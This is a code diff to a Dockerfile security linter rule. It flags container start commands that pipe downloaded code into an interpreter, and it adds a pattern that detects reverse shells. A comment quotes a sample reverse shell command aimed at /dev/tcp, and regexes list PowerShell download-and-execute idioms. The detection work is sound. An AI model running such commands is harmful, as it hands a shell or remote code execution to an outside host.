@@ -11,6 +11,7 @@ from reconstruct.audit.downloads import INTERPRETERS, base_program
 from reconstruct.audit.finding import Family, Severity
 from reconstruct.audit.piping import piped_downloads, piped_otherwise
 from reconstruct.audit.rule import BEST_PRACTICES, Hit, Rule, cis, cwe, docker
+from reconstruct.syntax import Cmd, Entrypoint, Healthcheck
 
 _SCRIPT_BLOCK = lazy.compile(
     r"(?i)(?:\[scriptblock\]::Create\(|\b(?:iex|Invoke-Expression)\s+[\"'][^;]{0,80}?\$\()[^;]{0,200}?(?:\birm\b|\biwr\b|\bcurl\b|\bwget\b|Invoke-RestMethod|Invoke-WebRequest|DownloadString)"
@@ -19,6 +20,8 @@ _SCRIPT_BLOCK = lazy.compile(
 
 
 _FETCHED = lazy.compile(r"(?i)^\s*(\$\w+)\s*=.*?(?:\birm\b|\biwr\b|Invoke-RestMethod|Invoke-WebRequest|DownloadString)")
+# `bash -i >& /dev/tcp/10.0.0.1/4444`, wherever it is written.
+_REVERSE = lazy.compile(r"\b(?:ba|da|z|k)?sh\s+-i\s*[0-9]?[>&<]{1,2}\s*/dev/tcp/")
 _RUN_VARIABLE = lazy.compile(r"(?i)\b(?:iex|Invoke-Expression)\s+\(?(\$\w+)")
 _URL = lazy.compile(r"https?://[^\s'\");]+")
 
@@ -34,8 +37,25 @@ def _by_variable(text: str) -> str:
     return ""
 
 
+def _at_start(context: Context) -> Iterator[Hit]:
+    """What CMD, ENTRYPOINT and HEALTHCHECK run as it arrives, in every container."""
+    for position in sorted(place for kind in (Cmd, Entrypoint, Healthcheck) for place, _ in context.of(kind)):
+        if "http" not in context.text(position):
+            continue
+        for download, runner in piped_downloads(context, position):
+            keyword, url = context.steps[position].instruction.keyword, context.show(download.urls[0], 120)
+            yield Hit(
+                position,
+                f"{keyword}: {download.command.name} {url} is run by {runner.name} as it arrives, in every container",
+            )
+
+
 def check(context: Context) -> Iterator[Hit]:
     """Fires where an interpreter runs a download as it arrives: `curl … | sh`, `sh -c "$(curl …)"`, PowerShell's `iex`."""
+    yield from _at_start(context)
+    for position, _ in context.texts_with("/dev/tcp/"):
+        if _REVERSE.search(context.text(position)):
+            yield Hit(position, "a shell is handed to whoever answers at another host")
     runs_text = any(name in INTERPRETERS or base_program(name) in INTERPRETERS for name in context.programs)
     if not runs_text and "scriptblock" not in context.all_text:
         return
